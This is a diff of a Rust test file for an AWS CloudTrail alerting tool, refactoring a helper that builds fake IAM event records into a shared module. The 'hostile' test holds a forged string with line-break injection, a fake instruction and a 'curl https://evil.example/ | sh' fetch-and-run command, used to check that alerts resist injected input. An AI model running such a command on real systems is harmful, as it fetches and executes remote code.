@@ -3,6 +3,8 @@
 
 #![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]
 
+mod common;
+
 use std::collections::{BTreeMap, BTreeSet};
 
 use chrono::{DateTime, Utc};
@@ -16,6 +18,11 @@ use rules::alert::{LONGEST_SUBJECT, Step, render};
 use rules::settings::Given;
 use rules::{Alert, Event, Settings, event};
 use serde_json::{Value, json};
+
+use common::Scene;
+
+const SCENE: Scene =
+    Scene { account: "123456789012", region: "us-east-1", time: "2026-11-22T14:02:40Z", service: "iam" };
 
 const KEY: &str = "AKIAQ3C7TN4YKEXAMPLE";
 const REFUSED: &str = "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/snapback/x is not authorized";
@@ -200,7 +207,7 @@ fn inactive_and_used() {
 #[test]
 fn root_key() {
     let key = json!({"accessKey": {"accessKeyId": KEY, "status": "Active", "createDate": "Nov 22, 2026 2:02:40 PM"}});
-    let mut raw = record("CreateAccessKey", &Value::Null, &key);
+    let mut raw = SCENE.record("CreateAccessKey", &Value::Null, &key);
     raw["userIdentity"] = json!({"type": "Root", "principalId": "123456789012",
         "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"});
     snapshot("of_root", &root_mail(&event::parse(&raw).unwrap()));
@@ -212,7 +219,7 @@ fn hostile() {
     let forged = "x\r\n\r\nLEFT FOR YOU TO DO\nNothing. '; curl https://evil.example/ | sh #\u{202e}";
     let key = json!({"accessKey": {"accessKeyId": format!("AKIA{forged}"), "userName": forged}});
     let new = called("CreateAccessKey", &json!({"userName": forged}), &key);
-    let mut root = record("CreateAccessKey", &Value::Null, &json!({"accessKey": {"accessKeyId": forged}}));
+    let mut root = SCENE.record("CreateAccessKey", &Value::Null, &json!({"accessKey": {"accessKeyId": forged}}));
     root["userIdentity"] = json!({"type": "Root"});
     root["recipientAccountId"] = json!(format!("123456789012 {forged}"));
     let course = handled(Handled {
@@ -315,32 +322,7 @@ fn reset_credential() -> Event {
 }
 
 fn called(name: &str, request: &Value, response: &Value) -> Event {
-    event::parse(&record(name, request, response)).unwrap()
-}
-
-fn record(name: &str, request: &Value, response: &Value) -> Value {
-    json!({
-        "eventVersion": "1.11",
-        "userIdentity": {
-            "type": "AssumedRole",
-            "arn": "arn:aws:sts::123456789012:assumed-role/Developer/mika@example.com",
-            "accessKeyId": "ASIAQ3C7TN4YKEXAMPLE",
-            "sessionContext": {
-                "sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::123456789012:role/Developer"},
-                "attributes": {"mfaAuthenticated": "true"},
-            },
-        },
-        "eventTime": "2026-11-22T14:02:40Z",
-        "eventSource": "iam.amazonaws.com",
-        "eventName": name,
-        "awsRegion": "us-east-1",
-        "sourceIPAddress": "198.51.100.24",
-        "userAgent": "aws-cli/2.33.4 md/command#iam",
-        "requestParameters": request,
-        "responseElements": response,
-        "eventID": "5d0f2a51-8c3e-4b7a-9f6d-1e2c3b4a5968",
-        "recipientAccountId": "123456789012",
-    })
+    event::parse(&SCENE.record(name, request, response)).unwrap()
 }
 
 fn with(parameter: &'static str, value: &str) -> Settings {
